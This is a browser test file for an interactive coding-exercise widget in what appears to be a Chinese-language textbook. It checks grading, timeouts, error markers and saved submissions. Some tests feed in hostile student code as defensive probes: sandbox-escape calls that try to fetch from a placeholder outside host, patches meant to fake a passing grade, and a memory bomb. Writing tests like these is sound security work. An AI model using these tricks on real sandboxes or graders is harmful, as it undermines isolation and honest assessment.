/**
 * The Exercise widget in headless Chromium: type in CodeMirror, run the visible tests in a Web Worker, see
 * pass/fail, an infinite loop stopped with a message, no network from student code, reload keeps the code,
 * download a submission. The widget is bundled with esbuild and served by the browser harness on loopback.
 */
import {build} from "esbuild";
import {mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join, resolve} from "node:path";
import type {Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, test} from "vitest";
import {loadExercises, toClientExercise} from "../src/exercises.js";
import {bundleBrowserWorker} from "../src/sandboxBundle.js";
import {type BookSession, type PageReport, startBook} from "./browser/harness.js";

let dir: string;
let book: BookSession;
let page: Page;
let report: PageReport;
const {exercises} = loadExercises("chapters/exercises");
const mse = exercises.find((e) => e.id === "mse")!;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "exercise-widget-"));
  const spec = toClientExercise(mse, {solutions: true, assignment: "demo", seed: 2024});
  const bad = {id: "broken", title: 3};
  writeFileSync(join(dir, "entry.ts"), `
import {Exercise} from ${JSON.stringify(resolve("components/widgets/Exercise.ts"))};
const main = document.getElementById("main")!;
main.append(Exercise(${JSON.stringify(spec)}, {solutions: true, sandboxUrl: "./sandbox-worker.js"}));
main.append(Exercise(${JSON.stringify(bad)} as any, {solutions: false}));
(window as any).ready = true;
`);
  await build({entryPoints: [join(dir, "entry.ts")], bundle: true, format: "esm", outfile: join(dir, "app.js"), logLevel: "silent", nodePaths: [resolve("node_modules")]});
  writeFileSync(join(dir, "sandbox-worker.js"), bundleBrowserWorker());
  writeFileSync(join(dir, "index.html"), `<!doctype html><meta charset="utf-8"><title>exercise</title><main id="main"></main><script type="module" src="./app.js"></script>`);
  book = await startBook(dir);
}, 120_000);
afterAll(async () => {
  await book?.close();
  rmSync(dir, {recursive: true, force: true});
});

async function setCode(code: string): Promise<void> {
  await page.click("#exercise-mse .cm-content");
  await page.keyboard.press("Control+A");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(code);
}
const status = () => page.locator("#exercise-mse .gb-ex-status").innerText();
async function run(): Promise<string> {
  await page.click("#exercise-mse .gb-ex-run");
  await page.waitForFunction(() => !/运行中/.test(document.querySelector("#exercise-mse .gb-ex-status")!.textContent ?? "") &&
    !(document.querySelector("#exercise-mse .gb-ex-run") as HTMLButtonElement).disabled, undefined, {timeout: 15_000});
  return status();
}

describe("Exercise widget in Chromium", () => {
  test("shows the prompt, the starter code, a clear error for a bad spec", async () => {
    const opened = await book.open("/", {waitFor: "#exercise-mse .cm-content"});
    page = opened.page;
    report = opened.report;
    expect(await page.locator("#exercise-mse .gb-ex-title").innerText()).toBe("练习：均方误差 MSE");
    expect(await page.locator("#exercise-mse .katex").count()).toBeGreaterThan(0);
    expect(await page.locator("#exercise-mse .cm-content").innerText()).toContain("function mse(y, yHat)");
    expect(await page.locator(".gb-exercise-error").innerText()).toBe('练习无法显示：spec.title must be a string（练习 "broken"）');
    expect(opened.report.pageErrors).toEqual([]);
  });

  test("starter code (returns 0): the two tests it cannot pass fail with messages", async () => {
    const s = await run();
    // It passes "identical → 0" and the symmetry test only, which any constant passes: they are worth nothing.
    expect(s).toMatch(/通过 2 \/ 4 个测试，可见测试得分 0 \/ 2/);
    expect(await page.locator("#exercise-mse .gb-ex-unscored").count()).toBe(3);
    expect(s).toMatch(/另有 2 个隐藏测试/);
    const fails = await page.locator("#exercise-mse .gb-ex-fail").allInnerTexts();
    expect(fails.join("\n")).toMatch(/expected 2\.5 \(±0\.000001\), got 0/);
  });

  test("typed correct code passes all visible tests", async () => {
    await setCode("function mse(y, yHat) {\n  if (y.length !== yHat.length || !y.length) throw new Error('bad');\n  let s = 0;\n  for (let i = 0; i < y.length; i++) s += (y[i] - yHat[i]) ** 2;\n  return s / y.length;\n}");
    // A few real keystrokes too: a comment typed at the end.
    await page.keyboard.press("Control+End");
    await page.keyboard.type("\n// done");
    const s = await run();
    expect(s).toMatch(/通过 4 \/ 4 个测试，可见测试得分 2 \/ 2/);
    expect(await page.locator("#exercise-mse .gb-ex-pass").count()).toBe(4);
  });

  test("TypeScript is accepted: types are stripped before the tests run, lines kept for errors", async () => {
    await setCode("interface Pair { a: number }\nfunction mse(y: number[], yHat: number[]): number {\n  if (y.length !== yHat.length || !y.length) throw new Error('bad');\n  let s: number = 0;\n  for (let i = 0; i < y.length; i++) s += (y[i] - yHat[i]) ** 2;\n  return (s as number) / y.length;\n}");
    expect(await run()).toMatch(/通过 4 \/ 4 个测试，可见测试得分 2 \/ 2/);
    await setCode("type T = number;\nfunction mse(y: T[], yHat: T[]): T {\n  return y +* yHat;\n}");
    expect(await run()).toMatch(/^代码无法运行：line 3:\d+: SyntaxError/);
  });

  test("an infinite loop is stopped by the time limit with a message", async () => {
    await setCode("function mse(y, yHat) { while (true) {} }");
    const t0 = Date.now();
    const s = await run();
    expect(s).toMatch(/超时：运行超过 2000 ms 被停止/);
    expect(Date.now() - t0).toBeLessThan(6000);
    expect(await page.locator("#exercise-mse .gb-ex-fail").count()).toBe(4);
  });

  test("student code sees no network API and its console output is shown", async () => {
    await setCode("console.log([typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof importScripts, typeof EventSource, typeof self, typeof globalThis.XMLHttpRequest, typeof WorkerGlobalScope, typeof FontFace, typeof postMessage].join(' '));\nfunction mse() { return 0; }");
    await run();
    expect(await page.locator("#exercise-mse .gb-ex-output").innerText()).toBe(Array(10).fill("undefined").join(" "));
  });

  test("reaching for the worker's network (prototype fetch, import(), FontFace) fails and requests nothing", async () => {
    for (const trick of [
      "WorkerGlobalScope.prototype.fetch.call(self, 'http://198.51.100.7/x')",
      "import('http://198.51.100.7/m.js')",
      "new FontFace('x', 'url(http://198.51.100.7/f.woff2)').load()",
      "globalThis.constructor.constructor('return fetch')()('http://198.51.100.7/y')"
    ]) {
      await setCode(`function mse(y, yHat) { try { ${trick}; } catch (e) { console.log("refused: " + e.name); } return 0; }`);
      const s = await run();
      expect(s, trick).toMatch(/通过 2 \/ 4 个测试/);
      expect(await page.locator("#exercise-mse .gb-ex-output").innerText(), trick).toMatch(/^refused: (ReferenceError|TypeError)/);
    }
    // Nothing was requested from another host (the recorder sees the page's and its workers' requests).
    expect(report.externalRequests).toEqual([]);
    expect(report.failedRequests).toEqual([]);
  });

  test("patching the iterator protocol or the inputs cannot fake a pass", async () => {
    // Before: every for…of in the tests ran zero assertions. Now the tests live in another runtime.
    await setCode("Object.getPrototypeOf([][Symbol.iterator]()).next = function () { return {done: true}; };\nArray.prototype.every = () => true; Math.abs = () => 0;\nfunction mse(y, yHat) { for (let i = 0; i < y.length; i++) y[i] = yHat[i]; return 0; }");
    const s = await run();
    // Same as plain `return 0`: "identical → 0" and the symmetry test, worth nothing.
    expect(s).toMatch(/通过 2 \/ 4 个测试，可见测试得分 0 \/ 2/);
  });

  test("a memory bomb is stopped by the engine's memory limit and the page stays usable", async () => {
    await setCode("var a = [];\nfunction mse() { while (true) a.push(new Float64Array(1e7).fill(1.5)); }");
    const s = await run();
    expect(s).toMatch(/运行失败|超时/);
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
  });

  test("a syntax error is said once with its line and column, and marked in the editor", async () => {
    await setCode("function mse(y, yHat) {\n  return y +* yHat;\n}");
    const s = await run();
    expect(s).toMatch(/^代码无法运行：line 2:\d+: SyntaxError/);
    const fails = await page.locator("#exercise-mse .gb-ex-fail .gb-ex-msg").allInnerTexts();
    expect(fails.every((m) => m === "没有运行：代码本身有错误（见上方和编辑器中的标记）")).toBe(true);
    expect(await page.locator("#exercise-mse .cm-lintRange-error").count()).toBe(1);
    expect(await page.locator("#exercise-mse .cm-lint-marker-error").count()).toBe(1);
  });

  test("a runtime error in a test marks the line of the student's code it came from", async () => {
    await setCode("function mse(y, yHat) {\n  const n = y.length;\n  return y.foo.bar / n;\n}");
    await run();
    expect((await page.locator("#exercise-mse .gb-ex-fail .gb-ex-msg").allInnerTexts()).join("\n")).toMatch(/\(line 3:\d+ of your code\)/);
    expect(await page.locator("#exercise-mse .cm-lint-marker-warning").count()).toBe(1);
  });

  test("hints open one at a time; the solution is there when built with solutions", async () => {
    await page.click("#exercise-mse .gb-ex-hint");
    expect(await page.locator("#exercise-mse .gb-ex-hint-item").count()).toBe(1);
    expect(await page.locator("#exercise-mse .gb-ex-hint").innerText()).toBe("提示（1/2）");
    expect(await page.locator("#exercise-mse .gb-ex-solution code").textContent()).toContain("return s / y.length;");
  });

  test("reload keeps the code; download writes the submission JSON", async () => {
    const code = "function mse(y, yHat) {\n  return 42; // kept\n}";
    await setCode(code);
    await run();
    await page.reload({waitUntil: "load"});
    await page.waitForSelector("#exercise-mse .cm-content");
    expect(await page.locator("#exercise-mse .cm-content").innerText()).toContain("return 42; // kept");
    expect(await status()).toMatch(/上次运行：可见测试得分 0 \/ 2/);
    await page.fill("#exercise-mse .gb-ex-student", "s2024001");
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#exercise-mse .gb-ex-download")]);
    const path = await download.path();
    const sub = JSON.parse(readFileSync(path!, "utf-8"));
    expect(download.suggestedFilename()).toBe("submission-s2024001-demo.json");
    expect(sub).toMatchObject({format: "gradbook-submission@1", student: "s2024001", assignment: "demo", bookVersion: "0.1.0"});
    expect(sub.exercises).toHaveLength(1);
    expect(sub.exercises[0]).toMatchObject({id: "mse", code, score: 0});
    expect(sub.exercises[0].results.map((r: {passed: boolean}) => r.passed)).toEqual([false, false, true, false]);
    expect(Date.parse(sub.timestamp)).toBeGreaterThan(Date.parse("2025-01-01"));
    // The student id is remembered.
    await page.reload({waitUntil: "load"});
    await page.waitForSelector("#exercise-mse .cm-content");
    expect(await page.inputValue("#exercise-mse .gb-ex-student")).toBe("s2024001");
  });
});
